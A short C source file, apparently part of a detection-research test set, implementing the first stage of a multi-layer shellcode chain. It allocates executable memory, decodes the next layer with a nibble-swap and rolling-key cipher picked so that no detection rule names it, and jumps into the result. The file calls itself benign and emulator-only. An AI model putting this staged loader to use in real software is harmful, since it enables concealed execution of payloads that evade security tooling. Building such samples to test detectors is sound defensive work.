/*
 * layer1_nibble.c - first shellcode layer of the custom-cipher chain (benign, emulator-only).
 *
 * Position independent, one function, no data. Decodes the next layer (ctx->next) with a
 * cipher no lineage rule names: swap the two nibbles of each byte, then add
 * (key0 + i * key_step) & 0xff. Writes it into an allocation of its own and calls it with the
 * same context block.
 */
#include "common.h"

DWORD WINAPI sc_main(struct sc_ctx *c)
{
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    unsigned char *dst;
    unsigned char b;
    DWORD i;
    if (!c->next || !c->next_len)
        return 3;
    dst = (unsigned char *)c->pVirtualAlloc(0, c->next_len, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!dst)
        return 4;
    for (i = 0; i < c->next_len; i++) {
        b = c->next[i];
        dst[i] = (unsigned char)(((b << 4) | (b >> 4)) + c->key0 + i * c->key_step);
    }
    return ((entry_t)(void *)dst)(c);
}
